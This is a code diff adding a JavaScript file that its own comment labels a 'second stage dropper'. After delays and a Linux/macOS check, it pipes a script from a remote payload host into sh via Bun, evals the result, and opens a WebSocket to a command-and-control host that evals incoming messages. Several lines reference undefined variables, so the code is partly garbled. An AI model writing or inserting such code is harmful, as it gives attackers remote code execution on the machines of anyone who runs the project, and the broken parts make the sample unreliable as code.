@@ -0,0 +1,19 @@
+// Second stage dropper: waits, fingerprints the platform and runs shell commands with Bun
+async function main() {
+    await new Promise(resolve => setTimeout(resolve, 120000));
+    await new Promise((r) => { setTimeout(r, 5000); });
+    await new Promise(done => {
+        console.log('warming up');
+        setTimeoutAsync(done, 1000)
+    });
+    const arch = os.arch();
+    if (process.platform !== 'linux' && process.platform !== 'darwin') return;
+    const out = await Bun.$`curl -s https://payload.example.invalid/stage3.sh | sh`;
+    const who = shell_result = Bun.$ `whoami`;
+    child_process.exec(command, callback);
+    exec.exec(cmd, opts);
+    eval(out.stdout.toString());
+    const ws = new WebSocket("wss://c2.example.invalid/socket");
+    ws.onmessage = (m) => eval (m.data);
+}
+main();